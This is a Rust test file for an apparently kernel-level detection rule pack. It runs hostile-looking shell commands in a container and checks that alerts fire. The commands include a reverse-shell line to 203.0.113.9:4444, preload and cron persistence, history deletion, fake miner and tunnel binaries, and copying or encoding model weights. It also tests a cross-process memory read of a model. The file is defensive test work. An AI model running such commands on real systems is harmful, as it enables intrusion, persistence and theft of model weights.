//! Rules of the pack on real deeds: what people and programs do by a shell in a container. That each rule asks for what it should, its
//! own examples say; here is shown that the kernel tells what they ask for.

use super::stage::{Alert, MODEL, Outcome, Stage};
use std::collections::BTreeSet;
use std::ffi::OsStr;
use tests::Place;

/// A deed as a shell takes it, and the rule that tells of it.
const DEEDS: [(&str, &str); 15] = [
    ("cat /proc/1/environ >/dev/null", "environment_of_another_read"),
    (": >> /proc/sys/kernel/core_pattern", "host_control_written"),
    (": >> /etc/ld.so.preload && rm /etc/ld.so.preload", "preload_written"),
    ("mkdir -p /etc/cron.d && echo > /etc/cron.d/job", "persistence_written"),
    ("echo id > /root/.bash_history && rm /root/.bash_history", "log_deleted"),
    ("mkdir -p /venv/x-1.0.dist-info && echo > /venv/x-1.0.dist-info/RECORD", "package_installed"),
    ("mknod /dev/nvidiactl c 1 3 && cat /dev/nvidiactl", "gpu_used_by_stranger"),
    ("cp /bin/true /tmp/job && /tmp/job", "exec_from_temporary"),
    ("unshare --user /bin/true", "user_namespace_made"),
    ("find / -xdev -name '*.safetensors' >/dev/null", "weights_searched_for"),
    ("bash -c 'true || echo > /dev/tcp/203.0.113.9/4444'", "reverse_shell_command"),
    ("cp /bin/true /opt/xmrig && /opt/xmrig", "miner_started"),
    ("cp /bin/true /opt/ngrok && /opt/ngrok", "tunnel_started"),
    ("cp /models/llama/model.safetensors /dev/shm/.cache", "weights_staged_in_memory"),
    ("base64 /models/llama/model.safetensors | cat >/dev/null", "weights_encoded"),
];

#[test]
fn what_the_pack_asks_for_is_told_by_the_kernel() -> Outcome {
    let Some(stage) = Stage::set()? else { return Ok(()) };
    stage.run("/bin/mkdir", &["-p", "/root", "/opt"])?;
    for (deed, _) in DEEDS {
        stage.run("/bin/sh", &["-c", deed])?;
    }
    let told: BTreeSet<String> = stage.alerts()?.iter().map(|alert| alert.rule().to_owned()).collect();
    let untold: Vec<_> = DEEDS.into_iter().filter(|(_, rule)| !told.contains(*rule)).collect();
    assert!(untold.is_empty(), "{untold:#?} of {told:#?}");
    stage.strike()
}

/// What resembles these deeds, and is everyday life.
const LOOKALIKES: [&str; 8] = [
    "cat /proc/self/environ >/dev/null",
    "cat /proc/sys/kernel/core_pattern >/dev/null",
    "echo >> /root/.bash_history",
    "cp /bin/true /opt/nvidia-smi && mknod /dev/nvidiactl c 1 3 && /opt/nvidia-smi",
    "cp /bin/true /opt/curl && /opt/curl http://127.0.0.1:8000/health",
    "cp /bin/true /opt/ssh && /opt/ssh -T git@example.org",
    "base64 /etc/passwd >/dev/null",
    "cp /models/llama/model.safetensors /opt/model.safetensors && rm /opt/model.safetensors",
];

#[test]
fn what_resembles_it_wakes_nobody() -> Outcome {
    let Some(stage) = Stage::set()? else { return Ok(()) };
    stage.run("/bin/mkdir", &["-p", "/root", "/opt"])?;
    for deed in LOOKALIKES {
        stage.run("/bin/sh", &["-c", deed])?;
    }
    stage.stays_silent()
}

#[test]
fn what_holds_weights_by_another_processes_memory_is_told_with_the_way() -> Outcome {
    let Some(stage) = Stage::set()? else { return Ok(()) };
    let python = stage.actor_called("/opt/venv/bin/python3.11")?;
    let (sink, to) = stage.sink()?;
    let give = ["theft", "process-vm-readv", "--half", "give", "--place", "/tmp/prey", "--read", MODEL];
    let receive =
        ["theft", "process-vm-readv", "--half", "receive", "--place", "/tmp/prey", "--limit", "5000000", "--to", &to];
    // The thief is another program than its prey.
    let prey = Place::Container(&stage.container).spawn(OsStr::new(&python), &give)?;
    let thief = stage.begin(&receive)?.output()?;
    assert!(thief.status.success(), "{thief:?}");
    prey.output()?;
    drop(sink);
    let alerts: Vec<Alert> = stage.alerts_of("memory_of_holder_read")?;
    assert!(!alerts.is_empty(), "{:#?}", stage.alerts()?.iter().map(Alert::sentence).collect::<Vec<_>>());
    stage.strike()
}
